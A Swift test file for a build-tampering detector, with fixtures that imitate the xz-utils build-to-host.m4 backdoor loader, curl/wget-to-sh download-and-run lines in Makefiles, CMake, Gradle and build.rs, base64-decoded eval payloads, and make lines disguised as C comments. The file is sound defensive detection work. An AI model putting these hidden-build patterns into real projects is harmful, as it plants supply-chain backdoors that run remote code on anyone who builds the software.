import Testing

@testable import CustodyCore

struct BuildTamperingDetectorTests {
    let detector = BuildTamperingDetector()

    /// The shape of xz-utils' modified build-to-host.m4 (rewritten here): find a data file by a
    /// marker, swap characters back with tr, decompress and eval the result during ./configure.
    static let buildToHost = """
        AC_DEFUN([gl_BUILD_TO_HOST_INIT],
        [
          dnl Locate the configuration data that ships with the sources.
          gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
          if test -n "$gl_am_configmake"; then
            HAVE_PKG_CONFIGMAKE=1
          else
            HAVE_PKG_CONFIGMAKE=0
          fi
          gl_sed_double_backslashes='s/\\\\/\\\\\\\\/g'
          gl_path_map='tr "\\t \\-_" " \\t_\\-"'
          gl_localedir_prefix=`echo $gl_am_configmake | sed "s/.*\\.//g"`
          gl_localedir_config='sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_localedir_prefix -d 2>/dev/null'
          AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \\$gl_localedir_config"])
        ])

        """

    @Test func xzStyleBuildToHostIsCritical() throws {
        let old = "AC_DEFUN([gl_BUILD_TO_HOST_INIT],\n[\n  gl_sed_double_backslashes='s/x/y/g'\n])\n"
        let findings = BuildDetectorFixtures.scan(detector, path: "m4/build-to-host.m4", old: old, new: Self.buildToHost)
        let critical = try #require(findings.first { $0.ruleID == "CUST-BUILD-002" })
        #expect(critical.severity == .critical)
        #expect(critical.category == .buildTampering)
        #expect(critical.evidence.contains("runs text as code"))
        let swap = try #require(findings.first { $0.ruleID == "CUST-BUILD-004" })
        #expect(swap.excerpt.contains("tr \"\\t \\-_\""))
    }

    @Test(arguments: [
        ("CMakeLists.txt", "execute_process(COMMAND sh -c \"curl -fsSL https://203.0.113.7/setup.sh | sh\")", "CUST-BUILD-001"),
        // `/*/bin/sh` globs to a real shell: a make recipe line that looks like a C comment.
        ("Makefile", "\t/*/bin/sh -c 'curl -fsSL http://203.0.113.7/i | sh' */", "CUST-BUILD-001"),
        ("build.rs", "    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://198.51.100.4/p | base64 -d | sh\").status().unwrap();", "CUST-BUILD-002"),
        ("setup.py", "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=\"))", "CUST-BUILD-002"),
        ("package.json", "    \"build\": \"node -e \\\"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\\\"\",", "CUST-BUILD-002"),
        ("Package.swift", "p.arguments = [\"-c\", \"curl -s https://updates.example.net/i | sh\"]", "CUST-BUILD-001"),
        ("build.gradle", "    exec { commandLine 'sh', '-c', 'wget -qO- http://192.0.2.8/a.sh | bash' }", "CUST-BUILD-001"),
        ("Makefile", "\thead -c 4096 tests/data/blob.bin | tail -c 1024 > .hook", "CUST-BUILD-003"),
        ("meson.build", "run_command('sh', '-c', 'xxd -r -p data/seed.hex | sh', check: true)", "CUST-BUILD-002"),
        // In a make recipe `//usr/bin/curl` is a command, not a C comment.
        ("Makefile", "\t//usr/bin/curl -fsSL https://203.0.113.7/setup.sh | sh", "CUST-BUILD-001"),
    ])
    func buildScriptsThatHideWork(_ path: String, _ line: String, _ rule: String) {
        let findings = BuildDetectorFixtures.scan(detector, path: path, old: "# header\n", new: "# header\n" + line + "\n")
        #expect(findings.contains { $0.ruleID == rule }, "\(findings.map(\.ruleID))")
    }

    @Test func adversarialSplitAcrossLinesAndTabs() {
        // The decoder and the eval are on different lines, with tabs instead of spaces.
        let text = "DEC='base64\t-d'\nPAYLOAD=$(cat po/fr.gmo.part | $DEC)\neval\t\"$PAYLOAD\"\n"
        let findings = BuildDetectorFixtures.scan(detector, path: "autogen.sh", old: nil, new: text)
        #expect(findings.contains { $0.ruleID == "CUST-BUILD-002" && $0.severity == .critical }, "\(findings.map(\.ruleID))")
        let rot = BuildDetectorFixtures.scan(detector, path: "configure.ac", old: nil, new: "x=`cat tests/files/a.txt | tr 'A-Za-z' 'N-ZA-Mn-za-m'`\n")
        #expect(rot.contains { $0.ruleID == "CUST-BUILD-004" })
    }

    @Test func tabsAroundEvalAndDecodeAreStillSeen() {
        let text = "\tprintf '%s' \"$BLOB\" | base64 --decode > x.sh;\teval \"$(cat x.sh)\"\n"
        let findings = BuildDetectorFixtures.scan(detector, path: "Makefile", old: nil, new: "all:\n" + text)
        #expect(findings.contains { $0.ruleID == "CUST-BUILD-002" && $0.severity == .critical })
    }

    @Test(arguments: [
        ("CMakeLists.txt", "FetchContent_Declare(googletest URL https://github.com/google/googletest/archive/v1.15.0.zip URL_HASH SHA256=1f357c27ca988c3f7c6b4bf68a9395005ac6761f034046e9dde0896e3aba00e4)"),
        ("CMakeLists.txt", "file(DOWNLOAD https://example.org/data.tar.gz ${CMAKE_BINARY_DIR}/data.tar.gz EXPECTED_HASH SHA256=0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0)"),
        ("configure.ac", "AC_CHECK_HEADERS([stdio.h stdlib.h sys/prctl.h])"),
        ("configure.ac", "PKG_CHECK_MODULES([ZLIB], [zlib >= 1.2.11])"),
        ("Makefile", "\tgzip -dc $(DIST).tar.gz | tar xf -"),
        ("package.json", "    \"test\": \"jest --coverage\","),
        ("setup.py", "    long_description=open('README.md').read(),"),
        ("Makefile", "\t$(CC) $(CFLAGS) -o $@ $^ $(LDLIBS)"),
        ("Makefile.in", "\teval GZIP= gzip $(GZIP_ENV) -dc $(distdir).tar.gz | $(am__untar) tests/"),
        ("Makefile.in", "\tskip=`echo \"$$results\" | grep -c '^SKIP'`; TESTS=tests/all.test"),
    ])
    func ordinaryBuildEditsStayQuiet(_ path: String, _ line: String) {
        let findings = BuildDetectorFixtures.scan(detector, path: path, old: "# header\n", new: "# header\n" + line + "\n")
        #expect(findings.isEmpty, "\(findings.map(\.ruleID))")
    }

    /// A project named after a downloader (libcurl) mentions it in comments, messages and file
    /// names; with an `eval` elsewhere in the file that is not "downloads and runs".
    @Test(arguments: [
        ("m4/libfoo.m4", "# specify whether to default to --with-libcurl or --without-libcurl.\n# the minimum version of libcurl to accept\nAC_DEFUN([LIBFOO_CHECK],[\n  _version_parse=\"eval $AWK '{print $1}'\"\n])"),
        ("m4/compilers.m4", "AC_MSG_WARN([\n*** If you wish to help the cURL project to better support your compiler\n*** report this to the libcurl development list\n])\neval \"$flags_var=yes\""),
        ("lib/config.h.cmake", "/* when building libcurl itself */\n#cmakedefine BUILDING_LIBCURL ${BUILDING_LIBCURL}\n/* eval the sizes */\n#cmakedefine SIZEOF_INT ${SIZEOF_INT}"),
        ("src/Makefile", "hugehelp.c: README.curl curl.1 mkhelp.pl\n\t$(NROFF) -man curl.1 | $(PERL) mkhelp.pl README > hugehelp.c\n\teval $(POSTHELP)"),
        ("configure.ac", "dnl use curl to fetch the test server? no: it runs locally\nAC_MSG_CHECKING([whether to eval])"),
    ])
    func downloaderNamesInProseAndCommentsAreNotDownloads(_ path: String, _ text: String) {
        let findings = BuildDetectorFixtures.scan(detector, path: path, old: nil, new: text + "\n")
        #expect(!findings.contains { $0.ruleID == BuildTamperingDetector.downloadAndRun.id || $0.ruleID == BuildTamperingDetector.downloads.id },
                "\(path): \(findings.map(\.evidence))")
        // The same file with a real download command is still reported.
        let real = BuildDetectorFixtures.scan(detector, path: path, old: nil, new: text + "\n\tcurl -fsSL https://203.0.113.9/x.sh | sh\n")
        #expect(real.contains { $0.ruleID == BuildTamperingDetector.downloadAndRun.id }, "\(path)")
    }

    @Test func sourceFilesAreNotBuildLogic() {
        // The same text in an ordinary source file is the content detectors' business.
        let findings = BuildDetectorFixtures.scan(detector, path: "src/run.py", old: nil, new: "exec(base64.b64decode(x))\n")
        #expect(findings.isEmpty)
    }

    @Test(arguments: [
        ("tr \"\\t \\-_\" \" \\t_\\-\"", true),
        ("tr 'A-Za-z' 'N-ZA-Mn-za-m'", true),
        ("tr 'a-z' 'A-Z'", false),
        ("tr -d '\\n'", false),
        ("tr ',' '\\n'", false),
        ("str 'ab' 'ba'", false),
    ])
    func characterSwapRecognition(_ line: String, _ expected: Bool) {
        #expect(ShellSignals.isCharacterSwap(Array(line.utf8)) == expected)
    }
}
